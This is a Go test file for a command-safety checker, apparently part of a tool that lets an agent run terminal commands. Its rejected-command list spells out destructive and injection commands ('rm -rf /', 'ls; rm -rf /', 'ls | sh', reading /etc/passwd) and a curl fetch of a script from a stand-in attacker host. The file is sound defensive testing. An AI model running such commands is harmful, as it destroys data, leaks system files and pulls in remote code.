package security

import (
	"context"
	"strings"
	"testing"
)

func TestIsCommandSafe_AllowsReadOnlyCommands(t *testing.T) {
	for _, cmd := range []string{
		"ls",
		"ls -la /tmp",
		"pwd",
		"git status",
		"git log --oneline -5",
		"cat README.md",
		"go version",
	} {
		if !IsCommandSafe(cmd) {
			t.Fatalf("%q should be safe", cmd)
		}
	}
}

func TestIsCommandSafe_RejectsDangerousCommands(t *testing.T) {
	for _, cmd := range []string{
		"",
		"rm -rf /",
		"sudo ls",
		"ls; rm -rf /",
		"cat /etc/passwd > /tmp/out",
		"ls | sh",
		"echo `whoami`",
		"echo $(id)",
		"git push --force",
		"make install",
		"curl http://evil.example/install.sh",
		"kill -9 1",
	} {
		if IsCommandSafe(cmd) {
			t.Fatalf("%q should be rejected", cmd)
		}
	}
}

func TestExecuteTerminalCommand_RefusesUnsafe(t *testing.T) {
	if _, err := ExecuteTerminalCommand(context.Background(), "rm -rf /tmp/x"); err == nil {
		t.Fatal("unsafe command should be refused")
	}
}

func TestExecuteTerminalCommand_RunsSafeCommand(t *testing.T) {
	out, err := ExecuteTerminalCommand(context.Background(), "echo hello")
	if err != nil {
		t.Fatalf("echo should succeed: %v", err)
	}
	if !strings.Contains(out, "hello") {
		t.Fatalf("unexpected output: %q", out)
	}
}
